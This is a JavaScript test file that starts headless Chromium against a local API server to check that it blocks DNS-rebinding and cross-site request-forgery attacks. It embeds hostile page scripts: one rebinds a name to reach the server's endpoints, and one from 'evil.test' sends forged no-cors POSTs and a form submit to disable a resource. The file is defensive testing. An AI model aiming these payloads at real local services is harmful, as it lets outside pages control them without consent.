// Hostile pages in a real Chromium: one whose name is made to lead to the server (DNS rebinding), and one of another
// site. PUNCTUAL_BINARY is the server's program, CHROMIUM the browser's.
'use strict';

const assert = require('node:assert');
const { spawn } = require('node:child_process');
const { once } = require('node:events');
const fs = require('node:fs');
const http = require('node:http');
const os = require('node:os');
const path = require('node:path');
const test = require('node:test');

const COLLECTION = '/subscriptions/s/resourceGroups/g/providers/Microsoft.Scheduler/jobCollections/c?api-version=2016-03-01';
const DISABLE = COLLECTION.replace('?', '/disable?');

/** A web server on a port of this machine. */
async function serve(listener) {
  const server = http.createServer(listener);
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return server;
}

/** Collects what pages tell, in order. */
class Reports {
  static async start() {
    const reports = new Reports();
    reports.waiting = [];
    reports.came = [];
    reports.server = await serve((request, response) => {
      let text = '';
      request.on('data', (piece) => { text += piece; });
      request.on('end', () => {
        response.end();
        const resolve = reports.waiting.shift();
        if (resolve) resolve(text); else reports.came.push(text);
      });
    });
    return reports;
  }

  /** A script that a page has for telling something. */
  get script() {
    const url = `http://127.0.0.1:${this.server.address().port}/`;
    return `const tell = (text) => fetch('${url}', {method: 'POST', mode: 'no-cors', body: text});`;
  }

  async next() {
    return this.came.length ? this.came.shift() : new Promise((resolve) => { this.waiting.push(resolve); });
  }
}

/**
 * A program with a folder of its own, which is `folder` in its arguments. When the test ends, all of its processes are
 * killed, and only then the folder goes: a program that still runs would write into it. What is not killed keeps the
 * test from ending.
 */
function start(context, program, folder, options) {
  const place = fs.mkdtempSync(path.join(os.tmpdir(), folder.prefix));
  const env = { ...process.env, ...options.env, TMPDIR: place };
  const child = spawn(program, folder.arguments(place), { ...options, env, detached: true });
  context.after(async () => {
    const gone = child.exitCode !== null || child.signalCode !== null || once(child, 'exit');
    // A process group is named by its first process, also after that one has ended.
    try { process.kill(-child.pid, 'SIGKILL'); } catch (error) { if (error.code !== 'ESRCH') throw error; }
    await gone;
    fs.rmSync(place, { recursive: true, force: true, maxRetries: 20, retryDelay: 100 });
  });
  return child;
}

/** A browser that shows a page. Every name of the domain `test` leads to this machine. */
function browse(context, url) {
  start(context, process.env.CHROMIUM, {
    prefix: 'punctual-browser-',
    arguments: (profile) => [
      '--headless', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--no-first-run',
      '--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-quic',
      '--host-resolver-rules=MAP *.test 127.0.0.1', `--user-data-dir=${profile}`, url,
    ],
  }, { stdio: 'ignore' });
}

/** A server on a port. */
async function punctual(context, port, environment) {
  const server = start(context, process.env.PUNCTUAL_BINARY, {
    prefix: 'punctual-data-',
    arguments: (data) => ['serve', '--role', 'api', '--listen', `127.0.0.1:${port}`, '--data', data],
  }, { env: environment, stdio: ['ignore', 'pipe', 'inherit'] });
  await once(server.stdout, 'data');
}

/** What the server itself says, asked by no browser. */
async function ask(port, method, target, body) {
  const answer = await fetch(`http://127.0.0.1:${port}${target}`, { method, body });
  return { status: answer.status, body: await answer.json().catch(() => null) };
}

/** The page whose name turns: it waits until it is the server that answers, and then asks for all it can. */
async function rebinding(context, environment) {
  const reports = await Reports.start();
  context.after(() => reports.server.close());
  const page = `<script>${reports.script}
    const pause = () => new Promise((resolve) => setTimeout(resolve, 50));
    const reached = () => fetch('/healthz').then((answer) => answer.ok, () => false);
    const status = (target, options) => fetch(target, options).then((answer) => answer.status, () => 'nothing');
    (async () => {
      await tell('loaded');
      while (!await reached()) await pause();
      const put = {method: 'PUT', headers: {'content-type': 'application/json'}, body: '{"location": "West US"}'};
      tell([await status('/doctor'), await status('${COLLECTION}', put), await status('${COLLECTION}')].join());
    })();
  </script>`;
  const evil = await serve((request, response) => {
    if (request.url === '/') response.setHeader('content-type', 'text/html').end(page);
    else response.writeHead(404).end();
  });
  const { port } = evil.address();
  browse(context, `http://rebind.test:${port}/`);
  assert.strictEqual(await reports.next(), 'loaded');
  // The name turns: what it leads to is ours from now on.
  evil.close();
  evil.closeAllConnections();
  await once(evil, 'close');
  await punctual(context, port, environment);
  return reports.next();
}

test('a page whose name is made to lead to the server reaches nothing', { timeout: 120000 }, async (context) => {
  assert.strictEqual(await rebinding(context, {}), '421,421,421');
});

test('the same page would reach everything if its name were one of ours', { timeout: 120000 }, async (context) => {
  assert.strictEqual(await rebinding(context, { PUNCTUAL_SERVER__HOSTS: 'rebind.test' }), '200,201,200');
});

test('a page of another site gives no orders', { timeout: 120000 }, async (context) => {
  const reports = await Reports.start();
  context.after(() => reports.server.close());
  const free = await serve(() => {});
  const { port } = free.address();
  free.close();
  await once(free, 'close');
  await punctual(context, port, {});
  assert.strictEqual((await ask(port, 'PUT', COLLECTION, '{"location": "West US"}')).status, 201);
  // A request that needs no permission of the server, and a form.
  const page = `<form method="post" action="http://localhost:${port}${DISABLE}"></form><script>${reports.script}
    const order = (host) => fetch('http://' + host + ':${port}${DISABLE}', {method: 'POST', mode: 'no-cors', body: ''});
    Promise.allSettled([order('localhost'), order('127.0.0.1')]).then(() => {
      window.addEventListener('pagehide', () => navigator.sendBeacon('/', 'sent'));
      document.forms[0].submit();
    });
  </script>`;
  let sent;
  const left = new Promise((resolve) => { sent = resolve; });
  const evil = await serve((request, response) => {
    if (request.method === 'POST') sent();
    response.setHeader('content-type', 'text/html').end(page);
  });
  context.after(() => { evil.closeAllConnections(); evil.close(); });
  browse(context, `http://evil.test:${evil.address().port}/`);
  // The page is left when the answer to the form is there.
  await left;
  const collection = await ask(port, 'GET', COLLECTION);
  assert.strictEqual(collection.body.properties.state, 'Enabled');
});
